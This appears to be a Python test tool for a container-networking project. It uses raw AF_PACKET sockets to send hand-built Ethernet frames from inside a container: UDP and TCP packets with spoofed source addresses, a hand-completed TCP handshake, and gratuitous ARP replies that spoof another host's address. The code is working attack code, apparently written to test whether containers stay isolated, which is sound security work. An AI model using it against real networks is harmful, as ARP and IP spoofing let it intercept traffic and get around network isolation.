"""Hand-built Ethernet frames from inside a container: the attacks of issue 12.

Runs in a container (python3, standard library only; CAP_NET_RAW, which containers
have by default), on its eth0, as an attacker would: the kernel's routing and socket
checks are bypassed by writing whole frames with AF_PACKET.

  rawnet.py udp DST PORT --mac GW_MAC [--src IP] [--payload TEXT]
      one UDP datagram DST:PORT, sent to the gateway's MAC (or to the owner of DST
      with --to-mac), from the container's own address or --src (spoofed)
  rawnet.py tcp DST PORT --mac GW_MAC [--src IP] [--wait S]
      a TCP SYN; if a SYN-ACK comes back, the handshake is completed by hand and a
      line is sent; prints what came back. ARP requests for the source address are
      answered by hand too (the host asks "tell 127.0.0.1", which the container's
      kernel ignores)
  rawnet.py arp IP --mac GW_MAC
      an unsolicited ARP reply claiming IP for this container's MAC (ARP spoofing)
  rawnet.py connect DST PORT [--wait S]
      an ordinary TCP connection (no raw frames); prints the server's first line
  rawnet.py serve TAG PORT
      a TCP and UDP server on PORT: prints "ready IP MAC", then "udp PEER DATA" for
      each datagram; answers each TCP connection with "TAG PEER"

Prints one JSON object: {"sent": true, "synack": bool, "data": "..."} (or "error").
"""

from __future__ import annotations

import argparse
import json
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(text: str) -> bytes:
    return bytes(int(b, 16) for b in text.split(":"))


def ipv4(src: str, dst: str, proto: int, payload: bytes) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.randint(0, 65535),
                         0x4000, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + payload


def pseudo(src: str, dst: str, proto: int, length: int) -> bytes:
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, length)


def udp(src: str, dst: str, sport: int, dport: int, data: bytes) -> bytes:
    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    csum = checksum(pseudo(src, dst, 17, len(seg)) + seg) or 0xFFFF
    return ipv4(src, dst, 17, seg[:6] + struct.pack("!H", csum) + seg[8:])


def tcp(src: str, dst: str, sport: int, dport: int, seq: int, ack: int, flags: int,
        data: bytes = b"") -> bytes:
    seg = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0) + data
    csum = checksum(pseudo(src, dst, 6, len(seg)) + seg)
    return ipv4(src, dst, 6, seg[:16] + struct.pack("!H", csum) + seg[18:])


class Link:
    def __init__(self, ifname: str = "eth0") -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((ifname, 0))
        with open(f"/sys/class/net/{ifname}/address") as f:
            self.mac = f.read().strip()

    def send(self, dst_mac: str, ethertype: int, payload: bytes,
             src_mac: str | None = None) -> None:
        frame = (mac_bytes(dst_mac) + mac_bytes(src_mac or self.mac)
                 + struct.pack("!H", ethertype) + payload)
        self.sock.send(frame)

    def frames(self, seconds: float):  # type: ignore[no-untyped-def]
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select([self.sock], [], [], left)
            if ready:
                yield self.sock.recv(65535)


def own_ip() -> str:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("192.0.2.1", 9))  # no packet is sent: only the route is looked up
    return str(s.getsockname()[0])


def arp_reply(link: Link, ip: str, to_mac: str, to_ip: bytes) -> bytes:
    """"``ip`` is at this container's MAC", to ``to_mac``/``to_ip``."""
    return struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 2, mac_bytes(link.mac),
                       socket.inet_aton(ip), mac_bytes(to_mac), to_ip)


def answer_arp(link: Link, frame: bytes, ip: str) -> None:
    """Answer "who has ``ip``?" ourselves: the host asks with the 127.0.0.1 it replies
    from, which the container's own kernel ignores (a martian source)."""
    arp = frame[14:42]
    op, sha, tip = struct.unpack("!H", arp[6:8])[0], arp[8:14], arp[24:28]
    if op == 1 and tip == socket.inet_aton(ip):
        link.send(":".join(f"{b:02x}" for b in sha), ETH_P_ARP,
                  arp_reply(link, ip, ":".join(f"{b:02x}" for b in sha), arp[14:18]))


def tcp_attack(link: Link, mac: str, src: str, dst: str, dport: int, wait: float) -> dict:
    sport = random.randint(20000, 60000)
    seq = random.randint(0, 2**31)
    link.send(mac, ETH_P_IP, tcp(src, dst, sport, dport, seq, 0, 0x02))  # SYN
    result: dict = {"sent": True, "synack": False, "data": ""}
    server_seq = None
    for frame in link.frames(wait):
        ethertype = struct.unpack("!H", frame[12:14])[0]
        if ethertype == ETH_P_ARP:
            answer_arp(link, frame, src)
            continue
        if ethertype != ETH_P_IP or frame[23] != 6:
            continue
        ip = frame[14:]
        ihl = (ip[0] & 0xF) * 4
        seg = ip[ihl:]
        fsrc, fdst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        sp, dp, their_seq, _ack, off, flags = struct.unpack("!HHIIBB", seg[:14])
        if fsrc != dst or fdst != src or sp != dport or dp != sport:
            continue
        payload = seg[(off >> 4) * 4:ip[2] * 256 + ip[3] - ihl]
        if flags & 0x12 == 0x12 and server_seq is None:  # SYN-ACK: complete the handshake
            result["synack"] = True
            server_seq = their_seq + 1
            link.send(mac, ETH_P_IP, tcp(src, dst, sport, dport, seq + 1, server_seq, 0x10))
            link.send(mac, ETH_P_IP, tcp(src, dst, sport, dport, seq + 1, server_seq, 0x18,
                                         b"hello from a container\n"))
        elif payload:
            result["data"] += payload.decode(errors="replace")
            break
    return result


def serve(port: int, tag: str) -> None:
    import threading

    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", port))
    t = socket.socket()
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("0.0.0.0", port))
    t.listen(16)
    with open("/sys/class/net/eth0/address") as f:
        print("ready", own_ip(), f.read().strip(), flush=True)

    def udp_loop() -> None:
        while True:
            data, peer = u.recvfrom(200)
            print("udp", peer[0], data.decode(errors="replace"), flush=True)

    threading.Thread(target=udp_loop, daemon=True).start()
    while True:
        c, peer = t.accept()
        c.sendall(f"{tag} {peer[0]}\n".encode())
        c.close()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["udp", "tcp", "arp", "connect", "serve"])
    p.add_argument("dst")
    p.add_argument("port", nargs="?", type=int, default=0)
    p.add_argument("--mac", default="", help="the destination MAC (the gateway's)")
    p.add_argument("--src", default="", help="source address (default: our own)")
    p.add_argument("--src-mac", default="", help="source MAC (default: our own)")
    p.add_argument("--payload", default="hello from a container")
    p.add_argument("--wait", type=float, default=3.0)
    a = p.parse_args()
    if a.mode == "serve":
        serve(a.port, a.dst)
        return
    if a.mode == "connect":
        try:
            with socket.create_connection((a.dst, a.port), timeout=a.wait) as s:
                s.settimeout(a.wait)
                print(json.dumps({"data": s.recv(200).decode(errors="replace")}))
        except OSError as err:
            print(json.dumps({"error": f"{type(err).__name__}: {err}"}))
        return
    link = Link()
    src = a.src or own_ip()
    if a.mode == "udp":
        link.send(a.mac, ETH_P_IP, udp(src, a.dst, random.randint(20000, 60000), a.port,
                                       a.payload.encode()), a.src_mac or None)
        print(json.dumps({"sent": True}))
    elif a.mode == "tcp":
        print(json.dumps(tcp_attack(link, a.mac, src, a.dst, a.port, a.wait)))
    else:  # gratuitous ARP reply: "a.dst is at my MAC"
        arp = arp_reply(link, a.dst, a.mac, socket.inet_aton(a.dst))
        for _ in range(3):
            link.send(a.mac, ETH_P_ARP, arp)
        print(json.dumps({"sent": True}))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
